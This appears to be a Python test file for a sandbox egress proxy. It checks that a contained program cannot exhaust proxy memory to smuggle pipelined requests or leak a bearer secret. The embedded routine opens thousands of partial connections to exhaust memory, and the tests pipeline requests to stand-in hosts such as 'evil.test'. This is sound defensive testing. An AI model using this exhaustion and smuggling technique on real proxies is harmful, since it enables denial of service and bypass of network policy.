"""A hostile program inside uses up the memory that the proxy gives to all connections, just while a request of its own
waits: for a value, for the user, or for an origin. Nothing of one request may come to another (P2, P3, F54)."""
import json
import socket

from harness.secrets import no_secret
from lab.guarded import SECRET
from lab.origin import unanswering

# The first request waits; the second has been sent behind it. Memory goes, and comes back, before the wait is over.
INSIDE = """
import os, resource, socket, ssl, sys, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE); resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
PROXY = ("127.0.0.1", 3128)
def connect(): return socket.create_connection(PROXY)
def secure(host):
    s = connect(); s.sendall(b"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n" % (host, host)); s.recv(4096)
    return ssl.create_default_context().wrap_socket(s, server_hostname=host.decode())
def step(word): print(word, flush=True); sys.stdin.readline()
def exhaust(victim, more):
    held = []
    for size, count in ((65000, 2070), (16000, 6), (4000, 6), (1000, 8), (200, 10), (1, 90)):
        for _ in range(count):
            s = connect(); s.setblocking(False); held.append(s)
            try: s.send(b"GET http://none.test/ HTTP/1.1\\r\\nX: " + b"a" * size)
            except OSError: pass
    time.sleep(1)
    victim.settimeout(50); victim.sendall(b"Z" * more)
    time.sleep(0.5)
    for s in held: s.close()
    time.sleep(0.5)
def answers(victim):
    got = b""
    try:
        while data := victim.recv(65536): got += data
    except OSError as error: got += repr(error).encode()
    return got.decode("latin-1")
"""


class Inside:
    def __init__(self, sbx, code, *options, **more):
        self.process = sbx.start("run", *options, "--", "/usr/bin/python3", "-I", "-c", INSIDE + code,
                                 stdin=-1, stdout=-1, stderr=-1, **more)

    def wait(self):
        line = self.process.stdout.readline()
        assert line, self.process.stderr.read()

    def go(self):
        self.process.stdin.write(b"\n")
        self.process.stdin.flush()

    def end(self):
        out, err = self.process.communicate(timeout=100)
        assert self.process.returncode == 0, err
        return out.decode("latin-1")


def test_while_a_value_is_fetched(sbx, lab, guarded, project):
    """No value in the body of a request, which an honest server may show to anybody."""
    gate = f"{project.home}/gate"  # where nothing inside can write
    policy = project.policy("../slow.json", credentials={"key": {
        "source": {"exec": ["sh", "-c", f"while [ ! -e {gate} ]; do sleep 0.1; done; echo {SECRET}"]},
        "env": "KEY", "bind": ["key.svc.test"]}})
    code = """
key = os.environ["KEY"].encode()
t = secure(b"key.svc.test")
head = b"POST /post HTTP/1.1\\r\\nHost: key.svc.test\\r\\nContent-Length: %d\\r\\nAuthorization: Bearer " + key + b"\\r\\n\\r\\n"
t.sendall(b"GET /check HTTP/1.1\\r\\nHost: key.svc.test\\r\\nAuthorization: Bearer " + key + b"\\r\\n\\r\\n" +
          head % (5 + len(head % 200)) + b"hello")
time.sleep(0.5)
exhaust(t, 3000)
step("full"); print(answers(t))
"""
    inside = Inside(sbx, code, "--policy", policy)
    inside.wait()
    with open(gate, "w"):
        pass
    inside.go()
    out = inside.end()
    assert '"reason":"limit"' in out, out
    no_secret(out.encode(), b"".join(r.body for r in lab.requests))


def test_while_an_origin_is_reached(sbx, lab):
    """No request on the connection that was dialled for another."""
    address, port = "192.0.2.99", 8099
    held = unanswering(address, port)
    code = f"""
t = connect()
t.sendall(b"GET http://{address}:{port}/first HTTP/1.1\\r\\nHost: {address}:{port}\\r\\n\\r\\n"
          b"POST http://silent.test/second HTTP/1.1\\r\\nHost: silent.test\\r\\nContent-Length: 0\\r\\n\\r\\n")
time.sleep(0.5)
exhaust(t, 40000)
step("full"); print(answers(t))
"""
    inside = Inside(sbx, code, "--allow", f"{address}:{port}", "--allow", "silent.test")
    inside.wait()
    for filler in held[1:]:
        filler.close()
    server = held[0]
    server.settimeout(8)  # SYN is sent anew after a second or three
    got = []
    try:
        while True:
            stream, _ = server.accept()
            stream.settimeout(2)
            got.append(stream.recv(4096))
    except OSError:
        pass
    inside.go()
    out = inside.end()
    server.close()
    assert '"reason":"limit"' in out, out
    assert not any(b"second" in data for data in got), got


def test_while_the_user_is_asked(sbx, lab):
    """What the user allows is what the question named."""
    mine, theirs = socket.socketpair()
    mine.settimeout(60)
    code = """
t = connect()
t.sendall(b"GET http://origin.test/first HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n"
          b"GET http://evil.test/second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
time.sleep(0.5)
exhaust(t, 40000)
step("full"); time.sleep(1); t.close()
"""
    inside = Inside(sbx, code, "--ask", f"fd:{theirs.fileno()}", pass_fds=(theirs.fileno(),))
    theirs.close()
    question = json.loads(mine.makefile().readline())
    assert question["host"] == "origin.test"
    inside.wait()
    mine.sendall(json.dumps({"id": question["id"], "answer": "once"}).encode() + b"\n")
    inside.go()
    inside.end()
    mine.close()
    assert not any(r.host == "evil.test" for r in lab.requests), lab.requests
